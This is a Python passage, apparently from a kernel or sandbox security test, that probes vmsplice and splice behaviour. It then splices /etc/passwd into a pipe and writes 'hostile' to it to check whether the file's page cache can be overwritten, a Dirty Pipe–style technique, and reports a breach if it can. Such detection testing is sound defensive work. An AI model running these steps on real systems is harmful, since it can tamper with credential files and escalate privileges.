# Gives pages to a pipe, merges into spliced ones, and changes them afterwards (vmsplice).
r, w = os.pipe()
view = mmap.mmap(-1, 1 << 16)
address = ctypes.addressof(ctypes.c_char.from_buffer(view))
vector = struct.pack("QQ", address, 1 << 16)
for flags in (0, 8, 1 | 8, 2, 4):
    os.set_blocking(w, False)
    syscall(278, w, ctypes.c_char_p(vector), 1, flags)
    view[0:4] = b"pipe"
    attempt(os.read, r, 1 << 16)
first = content("/etc/passwd")
fd = os.open("/etc/passwd", os.O_RDONLY)
os.splice(fd, w, 1, offset_src=0)
os.write(w, b"hostile")
if content("/etc/passwd") != first:
    breach("wrote to the page cache")
